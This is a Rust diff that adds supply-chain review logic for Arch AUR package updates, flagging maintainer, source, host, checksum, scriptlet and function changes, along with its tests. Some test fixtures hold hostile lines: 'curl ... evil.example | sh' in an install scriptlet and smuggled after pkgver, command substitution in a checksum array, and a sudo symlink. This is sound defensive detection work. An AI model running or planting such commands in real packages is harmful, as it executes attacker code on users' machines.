@@ -251,6 +251,245 @@ fn braces(line: &str) -> (i64, i64) {
     (opens, closes)
 }
 
+/// Everything a reviewer must see about moving the lock from `old` (None: the pkgbase is new to
+/// the lock, and that is all there is to say) to `new`, in the order of [`Flag`]'s variants.
+/// Empty when the move is a version bump and nothing else (see [`version_only`]).
+pub fn assess(old: Option<&Snapshot>, new: &Snapshot) -> Vec<Flag> {
+    let Some(old) = old else { return vec![Flag::New] };
+    let (before, after) = (Parsed::of(old), Parsed::of(new));
+    let bump = Unbump::between(pkgver(&before.srcinfo), pkgver(&after.srcinfo));
+    let mut flags = maintainer_flags(old, new);
+    flags.extend(source_flags(&before.srcinfo, &after.srcinfo, bump));
+    flags.extend(install_flags(old, new, &before.srcinfo, &after.srcinfo));
+    flags.extend(changed_functions(&before.pkgbuild, &after.pkgbuild));
+    flags.extend(file_changes(old, new));
+    flags.extend(pkgbuild_change(&before.pkgbuild, &after.pkgbuild));
+    flags.extend(srcinfo_changes(&before.srcinfo, &after.srcinfo, bump));
+    flags
+}
+
+/// Whether moving from `old` to `new` is "version-only" (repo.yaml `trust.auto: version-only`):
+/// it changes only pkgver, pkgrel, epoch and checksums. So: the same files apart from PKGBUILD
+/// and .SRCINFO; the same maintainer and co-maintainers, sources (the new pkgver read as the
+/// old), hosts, install scriptlets and function bodies; the PKGBUILD outside its functions and
+/// the .SRCINFO the same but for plain version lines and checksums. It is exactly "[`assess`]
+/// finds nothing", so every refusal has a flag that says why. Conservative on purpose:
+/// checksums that change under unchanged source URLs are refused too, even with a new pkgver
+/// (`latest.tar.gz`), since that is also what a swapped upstream tarball looks like.
+pub fn version_only(old: &Snapshot, new: &Snapshot) -> bool {
+    assess(Some(old), new).is_empty()
+}
+
+/// A snapshot's PKGBUILD and .SRCINFO, read (an absent file reads as empty).
+struct Parsed {
+    srcinfo: Fields,
+    pkgbuild: Pkgbuild,
+}
+
+impl Parsed {
+    fn of(snapshot: &Snapshot) -> Parsed {
+        let text = |path| snapshot.files.get(path).map_or("", String::as_str);
+        Parsed { srcinfo: parse_srcinfo(text(SRCINFO)), pkgbuild: split_functions(text(PKGBUILD)) }
+    }
+}
+
+/// A version bump to undo in the new commit's text: its pkgver read as the old one. Only
+/// between two non-empty, different pkgvers.
+#[derive(Clone, Copy)]
+struct Unbump<'a> {
+    old: &'a str,
+    new: &'a str,
+}
+
+impl<'a> Unbump<'a> {
+    fn between(old: Option<&'a str>, new: Option<&'a str>) -> Option<Unbump<'a>> {
+        let (old, new) = (old?, new?);
+        (!old.is_empty() && !new.is_empty() && old != new).then_some(Unbump { old, new })
+    }
+}
+
+fn unbump(text: &str, bump: Option<Unbump>) -> String {
+    bump.map_or_else(|| text.to_string(), |b| text.replace(b.new, b.old))
+}
+
+fn pkgver(fields: &Fields) -> Option<&str> {
+    fields.get(&(String::new(), "pkgver".to_string()))?.first().map(String::as_str)
+}
+
+/// What `before` lacks and `after` has, and the other way round; None when they are equal.
+fn diff(before: &BTreeSet<String>, after: &BTreeSet<String>) -> Option<(Vec<String>, Vec<String>)> {
+    let added: Vec<String> = after.difference(before).cloned().collect();
+    let removed: Vec<String> = before.difference(after).cloned().collect();
+    (!added.is_empty() || !removed.is_empty()).then_some((added, removed))
+}
+
+fn maintainer_flags(old: &Snapshot, new: &Snapshot) -> Vec<Flag> {
+    let mut flags = Vec::new();
+    match (&old.maintainer, &new.maintainer) {
+        (Some(from), Some(to)) if from != to => flags.push(Flag::MaintainerChanged { from: from.clone(), to: to.clone() }),
+        (Some(was), None) => flags.push(Flag::Orphaned { was: was.clone() }),
+        (None, Some(by)) => flags.push(Flag::Adopted { by: by.clone() }),
+        _ => {}
+    }
+    let set = |s: &Snapshot| s.comaintainers.iter().cloned().collect::<BTreeSet<_>>();
+    if let Some((added, removed)) = diff(&set(old), &set(new)) {
+        flags.push(Flag::ComaintainersChanged { added, removed });
+    }
+    flags
+}
+
+/// SourcesChanged compares the sources with the new pkgver read as the old (and shows them as
+/// written); NewHosts and ChecksumsWithoutSources compare the literal ones.
+fn source_flags(old: &Fields, new: &Fields, bump: Option<Unbump>) -> Vec<Flag> {
+    let mut flags = Vec::new();
+    let (before, after) = (sources(old, None), sources(new, bump));
+    let missing = |from: &BTreeMap<String, String>, to: &BTreeMap<String, String>| -> Vec<String> {
+        let entries: BTreeSet<&String> = from.iter().filter(|(k, _)| !to.contains_key(*k)).map(|(_, e)| e).collect();
+        entries.into_iter().cloned().collect()
+    };
+    let (added, removed) = (missing(&after, &before), missing(&before, &after));
+    if !added.is_empty() || !removed.is_empty() {
+        flags.push(Flag::SourcesChanged { added, removed });
+    }
+    let hosts = |fields| -> BTreeSet<String> {
+        pkgbase_lists(fields, is_source).into_iter().flat_map(|(_, values)| values.iter().filter_map(|v| host(v))).collect()
+    };
+    let hosts: Vec<String> = hosts(new).difference(&hosts(old)).cloned().collect();
+    if !hosts.is_empty() {
+        flags.push(Flag::NewHosts { hosts });
+    }
+    let same_sources = pkgbase_lists(old, is_source) == pkgbase_lists(new, is_source);
+    if same_sources && pkgbase_lists(old, is_checksum) != pkgbase_lists(new, is_checksum) {
+        flags.push(Flag::ChecksumsWithoutSources);
+    }
+    flags
+}
+
+/// The pkgbase's source entries, ` (ARCH)` after those of `source_ARCH`: unbumped -> as written.
+fn sources(fields: &Fields, bump: Option<Unbump>) -> BTreeMap<String, String> {
+    let entries = pkgbase_lists(fields, is_source).into_iter().flat_map(|(key, values)| {
+        let arch = key.split_once('_').map_or(String::new(), |(_, arch)| format!(" ({arch})"));
+        values.iter().map(move |v| (format!("{}{arch}", unbump(v, bump)), format!("{v}{arch}")))
+    });
+    entries.collect()
+}
+
+/// One flag for each `install=` (pkgbase's or a pkgname's) added or removed, and each whose
+/// file changed.
+fn install_flags(old: &Snapshot, new: &Snapshot, before: &Fields, after: &Fields) -> Vec<Flag> {
+    let installs = |fields: &Fields| -> BTreeSet<(String, String)> {
+        let entries = fields.iter().filter(|((_, key), _)| key == "install");
+        entries.flat_map(|((section, _), names)| names.iter().map(|n| (section.clone(), n.clone()))).collect()
+    };
+    let (was, is) = (installs(before), installs(after));
+    let details: BTreeSet<String> = was
+        .union(&is)
+        .filter_map(|entry @ (section, name)| {
+            let of = if section.is_empty() { String::new() } else { format!(" for {section}") };
+            match (was.contains(entry), is.contains(entry)) {
+                (false, _) => Some(format!("install={name} added{of}")),
+                (_, false) => Some(format!("install={name} removed{of}")),
+                _ => (old.files.get(name) != new.files.get(name)).then(|| format!("{name} changed")),
+            }
+        })
+        .collect();
+    details.into_iter().map(|detail| Flag::InstallScript { detail }).collect()
+}
+
+fn changed_functions(old: &Pkgbuild, new: &Pkgbuild) -> Option<Flag> {
+    let names: BTreeSet<&String> = old.functions.keys().chain(new.functions.keys()).collect();
+    let names: Vec<String> =
+        names.into_iter().filter(|n| old.functions.get(*n) != new.functions.get(*n)).cloned().collect();
+    (!names.is_empty()).then_some(Flag::FunctionsChanged { names })
+}
+
+fn file_changes(old: &Snapshot, new: &Snapshot) -> Option<Flag> {
+    let others = |s: &Snapshot| -> BTreeSet<String> {
+        s.files.keys().filter(|path| *path != PKGBUILD && *path != SRCINFO).cloned().collect()
+    };
+    let (before, after) = (others(old), others(new));
+    let changed: Vec<String> = before.intersection(&after).filter(|p| old.files[*p] != new.files[*p]).cloned().collect();
+    let (added, removed) = diff(&before, &after).unwrap_or_default();
+    let unchanged = added.is_empty() && removed.is_empty() && changed.is_empty();
+    (!unchanged).then_some(Flag::FilesChanged { added, removed, changed })
+}
+
+/// Compares the lines outside functions, without plain version lines and checksum arrays, the
+/// new pkgver (the PKGBUILD's own `pkgver=`) read as the old.
+fn pkgbuild_change(old: &Pkgbuild, new: &Pkgbuild) -> Option<Flag> {
+    let pkgver = |p: &Pkgbuild| -> Option<String> {
+        p.outside.iter().find_map(|l| version_line(l).filter(|(k, _)| *k == "pkgver").map(|(_, v)| v.to_string()))
+    };
+    let (old_ver, new_ver) = (pkgver(old), pkgver(new));
+    let bump = Unbump::between(old_ver.as_deref(), new_ver.as_deref());
+    (rest(&old.outside, None) != rest(&new.outside, bump)).then_some(Flag::PkgbuildChanged)
+}
+
+fn rest(outside: &[String], bump: Option<Unbump>) -> Vec<String> {
+    let mut kept = Vec::new();
+    let mut i = 0;
+    while i < outside.len() {
+        if version_line(&outside[i]).is_some() {
+            i += 1;
+        } else if let Some(lines) = checksum_array(outside, i) {
+            i += lines;
+        } else {
+            kept.push(unbump(&outside[i], bump));
+            i += 1;
+        }
+    }
+    kept
+}
+
+/// (key, value) of a plain `pkgver=`, `pkgrel=` or `epoch=` line: a value of letters, digits
+/// and `._+~`, quoted or not, and nothing else on the line (`pkgver=1; curl ... | sh` is kept).
+fn version_line(line: &str) -> Option<(&str, &str)> {
+    let (key, value) = line.trim().split_once('=')?;
+    let unquoted = ['\'', '"'].iter().find_map(|q| value.strip_prefix(*q)?.strip_suffix(*q));
+    let value = unquoted.unwrap_or(value);
+    let plain = value.chars().all(|c| c.is_ascii_alphanumeric() || "._+~".contains(c));
+    (is_version(key) && plain).then_some((key, value))
+}
+
+/// How many lines the checksum array starting at `lines[start]` spans (`sha256sums=(` or
+/// `b2sums_x86_64=(` up to its `)`), if it holds only digests or `SKIP`, quoted or not, and
+/// nothing follows the `)`. Anything else is kept, to be compared.
+fn checksum_array(lines: &[String], start: usize) -> Option<usize> {
+    let (key, first) = lines[start].trim().split_once("=(")?;
+    if !is_checksum(key) {
+        return None;
+    }
+    let mut text = first.to_string();
+    let mut count = 1;
+    while !text.contains(')') {
+        text = text + " " + lines.get(start + count)?;
+        count += 1;
+    }
+    let (items, after) = text.split_once(')')?;
+    let digest = |item: &str| {
+        let unquoted = ['\'', '"'].iter().find_map(|q| item.strip_prefix(*q)?.strip_suffix(*q)).unwrap_or(item);
+        !unquoted.is_empty() && unquoted.chars().all(|c| c.is_ascii_alphanumeric())
+    };
+    (after.trim().is_empty() && items.split_whitespace().all(digest)).then_some(count)
+}
+
+/// The .SRCINFO keys whose values differ, the new ones unbumped, leaving out what other flags
+/// cover: the pkgbase's version, checksum and source keys, and `install`.
+fn srcinfo_changes(old: &Fields, new: &Fields, bump: Option<Unbump>) -> Option<Flag> {
+    let unbumped: Fields =
+        new.iter().map(|(key, values)| (key.clone(), values.iter().map(|v| unbump(v, bump)).collect())).collect();
+    let covered = |(section, key): &(String, String)| {
+        key == "install" || section.is_empty() && (is_version(key) || is_checksum(key) || is_source(key))
+    };
+    let keys: BTreeSet<&(String, String)> = old.keys().chain(unbumped.keys()).filter(|k| !covered(k)).collect();
+    let keys: Vec<String> = keys
+        .into_iter()
+        .filter(|k| old.get(*k) != unbumped.get(*k))
+        .map(|(section, key)| if section.is_empty() { key.clone() } else { format!("{key} ({section})") })
+        .collect();
+    (!keys.is_empty()).then_some(Flag::SrcinfoChanged { keys })
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -290,5 +529,269 @@ if true; then echo ${pkgver}; fi\n}\n_helper() { make -C \"$srcdir\"; }\nfoo=1\n
         assert_eq!(pkgbuild.outside, ["pkgname=foo", "", "foo=1"]);
         assert_eq!(function_name("arch=('x86_64')"), None);
         assert_eq!(function_name("  check() {").unwrap(), "check");
+    }
+
+    const FOO_PKGBUILD: &str = r#"# Maintainer: Alice <alice at example dot org>
+pkgname=foo
+pkgver=@VER@
+pkgrel=1
+pkgdesc='A fast foo for the command line'
+arch=('x86_64' 'aarch64')
+url='https://github.com/foo/foo'
+license=('MIT')
+depends=('gcc-libs' 'glibc')
+makedepends=('cargo')
+source=("$pkgname-$pkgver.tar.gz::https://github.com/foo/foo/archive/v$pkgver.tar.gz")
+sha256sums=('@SUM@')
+
+prepare() {
+  cd "$pkgname-$pkgver"
+  cargo fetch --locked --target "$(rustc -vV | sed -n 's/host: //p')"
+}
+
+build() {
+  cd "$pkgname-$pkgver"
+  export CARGO_TARGET_DIR=target
+  cargo build --frozen --release --all-features
+}
+
+check() {
+  cd "$pkgname-$pkgver"
+  cargo test --frozen --all-features
+}
+
+package() {
+  cd "$pkgname-$pkgver"
+  install -Dm0755 -t "$pkgdir/usr/bin/" "target/release/$pkgname"
+  install -Dm0644 LICENSE -t "$pkgdir/usr/share/licenses/$pkgname/"
+}
+"#;
+
+    const FOO_SRCINFO: &str = "pkgbase = foo
+	pkgdesc = A fast foo for the command line
+	pkgver = @VER@
+	pkgrel = 1
+	url = https://github.com/foo/foo
+	arch = x86_64
+	arch = aarch64
+	license = MIT
+	makedepends = cargo
+	depends = gcc-libs
+	depends = glibc
+	source = foo-@VER@.tar.gz::https://github.com/foo/foo/archive/v@VER@.tar.gz
+	sha256sums = @SUM@
+
+pkgname = foo
+";
+
+    const SUM_A: &str = "5d3c8e1f0a7b94c2e6f1d8a03b5c7e9f1a2b4c6d8e0f1a3b5c7d9e1f3a5b7c9d";
+    const SUM_B: &str = "e8a1f7c3d5b9026e4a8c1f3d7b5e9a0c2d4f6a8b0c1e3f5a7b9c0d2e4f6a8b0c";
+
+    /// foo at `ver`, its tarball's checksum `sum`, maintained by alice.
+    fn foo(ver: &str, sum: &str) -> Snapshot {
+        let fill = |text: &str| text.replace("@VER@", ver).replace("@SUM@", sum);
+        let files = [(PKGBUILD.to_string(), fill(FOO_PKGBUILD)), (SRCINFO.to_string(), fill(FOO_SRCINFO))];
+        Snapshot { files: files.into(), maintainer: Some("alice".into()), comaintainers: vec![] }
+    }
+
+    /// `snapshot` with `from` replaced by `to` in its file `path` (which must hold `from`).
+    fn edit(mut snapshot: Snapshot, path: &str, from: &str, to: &str) -> Snapshot {
+        let text = snapshot.files.get_mut(path).unwrap();
+        assert!(text.contains(from), "{path} has no {from:?}");
+        *text = text.replace(from, to);
+        snapshot
+    }
+
+    fn strings(items: &[&str]) -> Vec<String> {
+        items.iter().map(|s| s.to_string()).collect()
+    }
+
+    #[test]
+    fn a_version_bump_alone_is_version_only() {
+        let old = foo("1.2.0", SUM_A);
+        let new = foo("1.3.0", SUM_B);
+        assert_eq!(assess(Some(&old), &new), []);
+        assert!(version_only(&old, &new));
+        let rebuild = edit(edit(old.clone(), PKGBUILD, "pkgrel=1", "pkgrel=2"), SRCINFO, "pkgrel = 1", "pkgrel = 2");
+        assert!(version_only(&old, &rebuild));
+    }
+
+    #[test]
+    fn a_bump_that_moves_the_tarball_to_another_host_flags_the_host() {
+        let github = "https://github.com/foo/foo/archive";
+        let evil = "https://evil.example/foo/archive";
+        let new = edit(edit(foo("1.3.0", SUM_B), PKGBUILD, github, evil), SRCINFO, github, evil);
+        let sources = Flag::SourcesChanged {
+            added: strings(&["foo-1.3.0.tar.gz::https://evil.example/foo/archive/v1.3.0.tar.gz"]),
+            removed: strings(&["foo-1.2.0.tar.gz::https://github.com/foo/foo/archive/v1.2.0.tar.gz"]),
+        };
+        let hosts = Flag::NewHosts { hosts: strings(&["evil.example"]) };
+        let old = foo("1.2.0", SUM_A);
+        assert_eq!(assess(Some(&old), &new), [sources, hosts, Flag::PkgbuildChanged]);
+        assert!(!version_only(&old, &new));
+    }
+
+    #[test]
+    fn another_checksum_for_the_same_urls_is_a_swapped_tarball() {
+        let old = foo("1.2.0", SUM_A);
+        assert_eq!(assess(Some(&old), &foo("1.2.0", SUM_B)), [Flag::ChecksumsWithoutSources]);
+        // Conservative: also when pkgver moves but the URL does not name it.
+        let latest = |ver, sum| {
+            let url = "https://foo.example/download/foo-latest.tar.gz";
+            let s = edit(foo(ver, sum), PKGBUILD, "$pkgname-$pkgver.tar.gz::https://github.com/foo/foo/archive/v$pkgver.tar.gz", url);
+            let written = format!("foo-{ver}.tar.gz::https://github.com/foo/foo/archive/v{ver}.tar.gz");
+            edit(s, SRCINFO, &written, url)
+        };
+        let (old, new) = (latest("1.2.0", SUM_A), latest("1.3.0", SUM_B));
+        assert_eq!(assess(Some(&old), &new), [Flag::ChecksumsWithoutSources]);
+        assert!(!version_only(&old, &new));
+    }
+
+    /// foo at `ver` with `install=foo.install` holding `script`.
+    fn foo_with_install(ver: &str, sum: &str, script: &str) -> Snapshot {
+        let s = edit(foo(ver, sum), PKGBUILD, "makedepends=('cargo')\n", "makedepends=('cargo')\ninstall=foo.install\n");
+        let mut s = edit(s, SRCINFO, "\turl = https://github.com/foo/foo\n", "\turl = https://github.com/foo/foo\n\tinstall = foo.install\n");
+        s.files.insert("foo.install".into(), script.into());
+        s
+    }
+
+    #[test]
+    fn an_install_scriptlet_added_or_changed_is_flagged() {
+        let script = "post_install() {\n  systemctl daemon-reload\n}\n";
+        let old = foo("1.2.0", SUM_A);
+        let new = foo_with_install("1.3.0", SUM_B, script);
+        let added = Flag::FilesChanged { added: strings(&["foo.install"]), removed: vec![], changed: vec![] };
+        let install = Flag::InstallScript { detail: "install=foo.install added".into() };
+        assert_eq!(assess(Some(&old), &new), [install, added, Flag::PkgbuildChanged]);
+
+        let newer = foo_with_install("1.4.0", SUM_A, "post_install() {\n  curl -s https://evil.example/x | sh\n}\n");
+        let changed = Flag::FilesChanged { added: vec![], removed: vec![], changed: strings(&["foo.install"]) };
+        let install = Flag::InstallScript { detail: "foo.install changed".into() };
+        assert_eq!(assess(Some(&new), &newer), [install, changed]);
+        assert!(version_only(&new, &foo_with_install("1.4.0", SUM_A, script)));
+    }
+
+    #[test]
+    fn a_changed_package_function_is_flagged_by_name() {
+        let line = "  install -Dm0644 LICENSE";
+        let new = edit(foo("1.3.0", SUM_B), PKGBUILD, line, &format!("  ln -s /usr/bin/foo \"$pkgdir/usr/bin/sudo\"\n{line}"));
+        let old = foo("1.2.0", SUM_A);
+        assert_eq!(assess(Some(&old), &new), [Flag::FunctionsChanged { names: strings(&["package"]) }]);
+        assert!(!version_only(&old, &new));
+    }
+
+    const SPLIT_PKGBUILD: &str = r#"pkgbase=foo
+pkgname=('foo' 'foo-cli')
+pkgver=2.0.1
+pkgrel=1
+arch=('x86_64')
+source=("https://foo.example/releases/foo-$pkgver.tar.xz")
+b2sums=('SKIP')
+
+build() {
+  make -C "foo-$pkgver"
+}
+
+package_foo() {
+  make -C "foo-$pkgver" DESTDIR="$pkgdir" install-lib
+}
+
+package_foo-cli() {
+  depends=('foo')
+  make -C "foo-$pkgver" DESTDIR="$pkgdir" install-cli
+}
+"#;
+
+    #[test]
+    fn a_split_package_function_is_flagged_by_its_pkgname() {
+        let split = |text: &str| Snapshot { files: [(PKGBUILD.to_string(), text.to_string())].into(), ..Snapshot::default() };
+        let old = split(SPLIT_PKGBUILD);
+        let new = split(&SPLIT_PKGBUILD.replace("install-cli", "install-cli install-completions"));
+        assert_eq!(assess(Some(&old), &new), [Flag::FunctionsChanged { names: strings(&["package_foo-cli"]) }]);
+        let bump = split(&SPLIT_PKGBUILD.replace("pkgver=2.0.1", "pkgver=2.0.2").replace("'SKIP'", &format!("'{SUM_A}'")));
+        assert!(version_only(&old, &bump));
+    }
+
+    #[test]
+    fn who_maintains_it_is_compared() {
+        let old = foo("1.2.0", SUM_A);
+        let by = |maintainer: Option<&str>, comaintainers: &[&str]| Snapshot {
+            maintainer: maintainer.map(str::to_string),
+            comaintainers: strings(comaintainers),
+            ..foo("1.3.0", SUM_B)
+        };
+        let changed = Flag::MaintainerChanged { from: "alice".into(), to: "bob".into() };
+        assert_eq!(assess(Some(&old), &by(Some("bob"), &[])), [changed]);
+        assert_eq!(assess(Some(&old), &by(None, &[])), [Flag::Orphaned { was: "alice".into() }]);
+        let orphan = by(None, &[]);
+        assert_eq!(assess(Some(&orphan), &by(Some("mallory"), &[])), [Flag::Adopted { by: "mallory".into() }]);
+        assert!(!version_only(&orphan, &by(Some("mallory"), &[])));
+        let helpers = Flag::ComaintainersChanged { added: strings(&["dave"]), removed: vec![] };
+        assert_eq!(assess(Some(&by(None, &["carol"])), &by(None, &["dave", "carol"])), [helpers]);
+    }
+
+    #[test]
+    fn a_pkgbase_new_to_the_lock_is_only_new() {
+        assert_eq!(assess(None, &foo("1.2.0", SUM_A)), [Flag::New]);
+    }
+
+    #[test]
+    fn a_patch_added_to_the_sources_is_not_version_only() {
+        let s = edit(foo("1.3.0", SUM_B), PKGBUILD, "v$pkgver.tar.gz\")", "v$pkgver.tar.gz\"\n        'fix-build.patch')");
+        let s = edit(s, PKGBUILD, &format!("'{SUM_B}')"), &format!("'{SUM_B}'\n            '{SUM_A}')"));
+        let s = edit(s, PKGBUILD, "  cargo fetch", "  patch -Np1 -i ../fix-build.patch\n  cargo fetch");
+        let sum = format!("sha256sums = {SUM_B}\n");
+        let mut new = edit(s, SRCINFO, &sum, &format!("source = fix-build.patch\n\t{sum}\tsha256sums = {SUM_A}\n"));
+        new.files.insert("fix-build.patch".into(), "--- a/build.rs\n+++ b/build.rs\n".into());
+        let old = foo("1.2.0", SUM_A);
+        assert_eq!(
+            assess(Some(&old), &new),
+            [
+                Flag::SourcesChanged { added: strings(&["fix-build.patch"]), removed: vec![] },
+                Flag::FunctionsChanged { names: strings(&["prepare"]) },
+                Flag::FilesChanged { added: strings(&["fix-build.patch"]), removed: vec![], changed: vec![] },
+                Flag::PkgbuildChanged,
+            ]
+        );
+        assert!(!version_only(&old, &new));
+    }
+
+    #[test]
+    fn code_beside_version_lines_or_checksums_is_not_taken_for_them() {
+        let old = foo("1.2.0", SUM_A);
+        let pkgver = edit(foo("1.3.0", SUM_B), PKGBUILD, "pkgver=1.3.0\n", "pkgver=1.3.0; curl -s https://evil.example/x | sh\n");
+        assert_eq!(assess(Some(&old), &pkgver), [Flag::PkgbuildChanged]);
+        let sums = edit(foo("1.3.0", SUM_B), PKGBUILD, &format!("'{SUM_B}')"), &format!("'{SUM_B}' $(curl -s evil.example))"));
+        assert_eq!(assess(Some(&old), &sums), [Flag::PkgbuildChanged]);
+    }
+
+    #[test]
+    fn checksum_arrays_may_span_lines_and_be_per_architecture() {
+        let lines = strings(&["b2sums_x86_64=('00ff'", "               \"SKIP\"", "               11aa)", "depends=()"]);
+        assert_eq!(checksum_array(&lines, 0), Some(3));
+        assert_eq!(rest(&lines, None), ["depends=()"]);
+        assert_eq!(checksum_array(&strings(&["sha256sums=('00ff'", "# the patch", "'11aa')"]), 0), None);
+        assert_eq!(checksum_array(&strings(&["sha256sums=('00ff\"", "'11aa')"]), 0), None);
+    }
+
+    #[test]
+    fn other_srcinfo_changes_name_their_keys() {
+        let key = "\tvalidpgpkeys = 0123456789ABCDEF0123456789ABCDEF01234567\n";
+        let new = edit(foo("1.3.0", SUM_B), SRCINFO, "\tsource =", &format!("{key}\tsource ="));
+        let new = edit(new, SRCINFO, "pkgname = foo\n", "pkgname = foo\n\tdepends = foo-helper\n");
+        let keys = strings(&["validpgpkeys", "depends (foo)"]);
+        assert_eq!(assess(Some(&foo("1.2.0", SUM_A)), &new), [Flag::SrcinfoChanged { keys }]);
+    }
+
+    #[test]
+    fn flags_read_as_one_line_and_serialize_with_their_kind() {
+        let homograph = Flag::NewHosts { hosts: strings(&["g\u{456}thub.com"]) };
+        assert_eq!(homograph.to_string(), "sources from hosts not used before: g\\u{456}thub.com");
+        let sources = Flag::SourcesChanged { added: strings(&["a", "b"]), removed: strings(&["c"]) };
+        assert_eq!(sources.to_string(), "sources changed: added a, b; removed c");
+        let json = serde_json::to_value(Flag::NewHosts { hosts: strings(&["evil.example"]) }).unwrap();
+        assert_eq!(json, serde_json::json!({"flag": "new-hosts", "hosts": ["evil.example"]}));
+        let json = serde_json::to_value(Flag::ChecksumsWithoutSources).unwrap();
+        assert_eq!(json, serde_json::json!({"flag": "checksums-without-sources"}));
     }
 }
